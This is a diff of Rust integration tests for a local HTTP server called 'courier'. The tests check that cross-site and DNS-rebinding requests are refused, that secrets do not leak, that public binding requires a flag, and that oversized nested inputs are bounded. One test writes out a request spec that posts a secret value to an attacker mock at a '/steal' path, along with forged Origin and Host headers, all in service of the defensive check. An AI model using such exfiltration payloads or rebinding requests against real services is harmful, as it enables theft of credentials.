@@ -29,12 +29,18 @@ fn start(extra: &[&str]) -> Server {
 
 /// A server whose `COURIER_ALLOW` is `allow` (unset for `None`).
 fn start_with_allow(extra: &[&str], allow: Option<&str>) -> Server {
+    start_with_env(extra, allow, &[])
+}
+
+/// A server whose `COURIER_ALLOW` is `allow`, with the variables `env` set.
+fn start_with_env(extra: &[&str], allow: Option<&str>, env: &[(&str, &str)]) -> Server {
     let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
     command.env_remove("COURIER_ALLOW");
     // Tests send to loopback servers, which the destination policy refuses by default.
     if let Some(allow) = allow {
         command.env("COURIER_ALLOW", allow);
     }
+    command.envs(env.iter().copied());
     let mut child = command
         .args(["serve", "--listen", "127.0.0.1:0"])
         .args(extra)
@@ -392,4 +398,136 @@ async fn answers_are_bounded_however_large_the_input() {
     assert_eq!(status, 200);
     let count = answer["diagnostics"].as_array().unwrap().len();
     assert!((1..=1_000).contains(&count), "{count} diagnostics");
+}
+
+/// Sends `body` to `route` with exactly the headers given (reqwest adds none it is given).
+async fn post_raw(server: &Server, route: &str, headers: &[(&str, &str)], body: &str) -> (u16, String) {
+    let mut request = reqwest::Client::new().post(format!("{}{route}", server.base)).body(body.to_owned());
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let response = request.send().await.expect("an answer");
+    (response.status().as_u16(), response.text().await.unwrap())
+}
+
+#[tokio::test]
+async fn a_cross_site_page_cannot_make_the_server_send_or_read_its_answers() {
+    let attacker = MockServer::start().await;
+    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
+    let server = start_with_env(&["--allow-send"], Some("private"), &[("COURIER_SECRET_K", "s3cr3t-value")]);
+    let port = server.base.rsplit(':').next().unwrap().to_owned();
+    let spec = format!(
+        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{secret(\"K\")}}}}'\n",
+        attacker.uri()
+    );
+    let body = json!({ "spec": spec }).to_string();
+    let own_host = format!("127.0.0.1:{port}");
+    let rebound = format!("attacker.example:{port}");
+    // What a browser sends: a "simple" POST from a foreign page (text/plain, no
+    // preflight), a JSON one from a foreign page, and any request of a page whose
+    // name was rebound to 127.0.0.1.
+    let cases: [(&[(&str, &str)], u16); 5] = [
+        (&[("content-type", "text/plain;charset=UTF-8"), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "application/json"), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "application/json"), ("origin", "null")], 403),
+        (&[("content-type", "text/plain"), ("host", &rebound), ("origin", "http://attacker.example")], 403),
+        (&[("content-type", "text/plain")], 415),
+    ];
+    for (headers, refused) in cases {
+        for route in ["/v1/send", "/v1/dry-run", "/v1/eval"] {
+            let (status, answer) = post_raw(&server, route, headers, &body).await;
+            assert_eq!(status, refused, "{route} {headers:?}: {answer}");
+            assert!(!answer.contains("s3cr3t"), "{answer}");
+        }
+    }
+    let (status, answer) =
+        post_raw(&server, "/v1/dry-run", &[("host", &rebound), ("content-type", "application/json")], &body).await;
+    assert_eq!(status, 403, "a rebound name reads nothing: {answer}");
+    let page = reqwest::Client::new().get(format!("{}/", server.base)).header("host", &rebound).send().await.unwrap();
+    assert_eq!(page.status().as_u16(), 403);
+    assert!(attacker.received_requests().await.unwrap().is_empty(), "a refused request sent nothing");
+    // The page's own requests and clients without an Origin keep working.
+    let own_origin = format!("http://{own_host}");
+    let json_type = ("content-type", "application/json");
+    let (status, answer) =
+        post_raw(&server, "/v1/eval", &[json_type, ("origin", &own_origin)], r#"{"expression": "1 + 1"}"#).await;
+    assert_eq!((status, answer.as_str()), (200, r#"{"value":2,"text":"2"}"#));
+    let (status, answer) =
+        post_raw(&server, "/v1/eval", &[json_type, ("host", &format!("localhost:{port}"))], r#"{"expression": "1"}"#)
+            .await;
+    assert_eq!(status, 200, "{answer}");
+    let (status, answer) = post_raw(&server, "/v1/send", &[json_type], &body).await;
+    assert_eq!(status, 200, "{answer}");
+    assert_eq!(attacker.received_requests().await.unwrap().len(), 1);
+}
+
+#[tokio::test]
+async fn a_name_given_with_host_is_answered() {
+    let server = start(&["--host", "workbench.internal"]);
+    let port = server.base.rsplit(':').next().unwrap().to_owned();
+    let json_type = ("content-type", "application/json");
+    for host in [format!("workbench.internal:{port}"), "workbench.internal".to_owned()] {
+        let (status, answer) =
+            post_raw(&server, "/v1/eval", &[json_type, ("host", &host)], r#"{"expression": "1"}"#).await;
+        assert_eq!(status, 200, "{host}: {answer}");
+    }
+    let (status, _) = post_raw(
+        &server,
+        "/v1/eval",
+        &[json_type, ("host", &format!("other.internal:{port}"))],
+        r#"{"expression": "1"}"#,
+    )
+    .await;
+    assert_eq!(status, 403);
+}
+
+#[test]
+fn sending_from_a_public_address_needs_public_and_files_must_be_a_folder() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("file.txt");
+    std::fs::write(&file, "x").unwrap();
+    let missing = folder.path().join("missing");
+    for args in [
+        vec!["--listen", "0.0.0.0:0", "--allow-send"],
+        vec!["--listen", "127.0.0.1:0", "--files", file.to_str().unwrap()],
+        vec!["--listen", "127.0.0.1:0", "--files", missing.to_str().unwrap()],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_courier")).arg("serve").args(&args).output().unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
+        assert!(stderr.contains("--public") || stderr.contains("not an existing folder"), "{args:?}: {stderr}");
+    }
+    // With --public it starts (and says where it listens).
+    let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
+        .args(["serve", "--listen", "0.0.0.0:0", "--allow-send", "--public"])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(line.contains("listening on http://0.0.0.0:"), "{line}");
+}
+
+#[tokio::test]
+async fn mappings_of_long_paths_are_cut_by_answer_size() {
+    let server = start(&[]);
+    // 100 levels of 8,000-byte keys over 10,000 leaves: every leaf repeats a path
+    // of 800 KB (twice, as a path and a pointer), which asked for gigabytes.
+    let key = "k".repeat(8_000);
+    let mut response = String::new();
+    for _ in 0..100 {
+        response.push_str(&format!("{{\"{key}\": "));
+    }
+    response.push_str(&format!("[{}]", vec!["0"; 10_000].join(",")));
+    response.push_str(&"}".repeat(100));
+    let started = Instant::now();
+    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
+    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
+    assert_eq!(status, 200);
+    assert_eq!(answer["truncated"], json!(true));
+    let size = answer.to_string().len();
+    assert!(size < 2 * courier::serve::MAX_LEAVES_BYTES, "the answer is {size} bytes");
+    assert!(answer["leaves"].as_array().unwrap().len() > 1);
 }
